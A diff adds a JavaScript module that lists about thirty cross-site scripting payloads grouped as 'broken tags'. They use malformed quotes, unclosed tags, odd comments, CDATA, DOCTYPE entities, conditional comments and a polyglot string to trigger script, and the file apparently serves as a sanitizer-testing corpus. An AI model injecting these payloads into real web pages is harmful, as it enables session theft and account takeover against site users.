@@ -1,0 +1,36 @@
+import { call, elsewhere, picture, vectorClass } from './vector';
+
+const handler = `onmouseover=${call} onfocus=${call} autofocus tabindex=0`;
+
+export const brokenTags = vectorClass('broken tags', {
+  'an attribute left by a double quote': `"><img src=gone onerror=${call}>`,
+  'an attribute left by a single quote': `'><img src=gone onerror=${call}>`,
+  'an attribute left without a bracket': `" ${handler} x="`,
+  'an attribute left by a backtick': `\` ${handler} x=\``,
+  'quotes that are entities': `<p title="&quot; ${handler} x=&quot;">x</p><p title='&apos; ${handler} x=&#39;'>y</p>`,
+  'a title that holds a tag': `<p title="</p>${picture}">x</p>`,
+  'a title that is never closed': `<p title="x>${picture}`,
+  'a single quote around a double one': `<p title='"><img src=gone onerror=${call}>'>x</p>`,
+  'an unquoted title with a bracket': `<p title=x>${picture}</p title=>`,
+  'three quotes in a row': `<img """><script>${call}</script>">`,
+  'a tag that is never closed': `<img src=gone onerror=${call} `,
+  'a tag within a tag': `<p <img src=gone onerror=${call}>>x</p>`,
+  'a tag that begins with a blank': `< script>${call}</ script>< img src=gone onerror=${call}>`,
+  'a tag that begins with a slash': `</ script>${call}<//img src=gone onerror=${call}>`,
+  'a name that goes on': `<p/onclick=${call}/><imgsrc=gone onerror=${call}><script${call}>`,
+  'an attribute without a name': `<p ="x" ="><img src=gone onerror=${call}>">x</p>`,
+  'an attribute whose name holds a quote': `<p "onclick="${call}" 'onfocus='${call}' x<y="1" onclick>x</p>`,
+  'an attribute whose name holds a tag': `<p <script>alert=1 title</script>="x">x</p>`,
+  'a value of many lines': `<img src="go\nne" title="\n\n>" onerror\n\t=\r\n${call}>`,
+  'a comment that ends at once': `<!-->${picture}--><!--->${picture}-->`,
+  'a comment that ends with a bang': `<!-- x --!>${picture}-->`,
+  'a comment within a comment': `<!-- <!-- --> ${picture} -->`,
+  'a comment that is never closed': `<!-- x ${picture}`,
+  'a comment with an end inside an attribute': `<!--<img title="-->${picture}">-->`,
+  'a condition': `<!--[if gte IE 4]><script>${call}</script><![endif]--><![if !IE]>${picture}<![endif]>`,
+  'declarations that are comments': `<!x ${picture}><?xml version="1.0"?><?x ${picture}?><%x ${picture}%>`,
+  'a document type with entities': `<!DOCTYPE x [<!ENTITY e "<img src=gone onerror=${call}>">]>&e;`,
+  'marked text in HTML': `<![CDATA[<img src=gone onerror=${call}>]]><![CDATA[ > ]]>${picture}`,
+  'a style sheet for XML': `<?xml-stylesheet href="${elsewhere}/x.xsl" type="text/xsl"?>x`,
+  'one string for many places': `'"--></title></style></textarea></script></noscript><svg/onload=${call}>//\`\${${call}}`,
+});
